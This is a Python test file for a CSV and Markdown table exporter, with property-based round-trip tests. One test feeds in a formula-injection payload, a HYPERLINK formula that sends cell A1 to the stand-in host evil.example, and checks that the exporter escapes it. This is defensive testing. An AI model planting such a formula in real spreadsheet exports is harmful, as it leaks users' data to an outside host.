"""Text of rows reads back to the same rows, whatever a cell holds."""

from __future__ import annotations

import csv
import io
from typing import Any

import numpy as np
import pandas as pd
import pytest
from hypothesis import given
from hypothesis import strategies as st

from core.tables import csv_of_records, csv_text, markdown_table

cells = st.floats(allow_nan=False) | st.text(st.characters(exclude_categories=["Cc", "Cs"]), max_size=8)


@given(st.lists(st.tuples(cells, cells), max_size=5))
def test_csv_reads_back_to_the_same_cells(rows: list[tuple[Any, Any]]) -> None:
    head, *back = csv.reader(io.StringIO(csv_text(("a", "b"), rows)))
    assert head == ["a", "b"]
    assert [
        [float(text) if isinstance(cell, float) else text for cell, text in zip(row, texts, strict=True)]
        for row, texts in zip(rows, back, strict=True)
    ] == [[read(cell) for cell in row] for row in rows]


def read(cell: Any) -> Any:
    """A cell as a file has it: a text that begins like a formula is one with an apostrophe before it."""
    if (
        not isinstance(cell, str)
        or cell[:1] not in ("=", "+", "-", "@", "＝", "＋", "－", "＠")
        or is_number(cell)
    ):
        return cell
    return f"'{cell}" if cell else cell


def is_number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r", "\n", "＝"])
def test_no_text_is_a_formula_of_a_spreadsheet(start: str) -> None:
    text = f'{start}HYPERLINK("http://evil.example/"&A1)'
    head, row = csv.reader(io.StringIO(csv_text((text,), [(text,)]), newline=""))
    assert head == row == [f"'{text}"]
    assert csv_of_records([{"name": text}]).count(f"'{start}") == 1


def test_numbers_stay_numbers_also_where_they_come_as_texts() -> None:
    cells = (-0.5, "-0.5", "+3", "-1e-10", "-inf", -3, None, "a=b", "", True)
    (row,) = csv.reader(io.StringIO(csv_text("abcdefghij", [cells]).split("\n")[1]))
    assert row == ["-0.5", "-0.5", "+3", "-1e-10", "-inf", "-3", "", "a=b", "", "True"]


def test_a_number_of_numpy_is_written_as_a_number() -> None:
    text = csv_text(("x",), zip(np.array([0.1, 2.0]), strict=True))
    assert pd.read_csv(io.StringIO(text))["x"].tolist() == [0.1, 2.0]


def test_records_give_the_columns_asked_for_or_those_of_the_first() -> None:
    records = [{"a": 1, "b": 2}, {"a": 3}]
    assert csv_of_records(records) == "a,b\n1,2\n3,\n"
    assert csv_of_records(records, ("b", "c")) == "b,c\n2,\n,\n"
    assert csv_of_records([], ("b",)) == "b\n"


def test_a_bar_in_a_cell_ends_no_column() -> None:
    answer = markdown_table(("a", "b"), [("x|y", 1)])
    assert answer.splitlines() == ["| a | b |", "| --- | --- |", "| x\\|y | 1 |"]
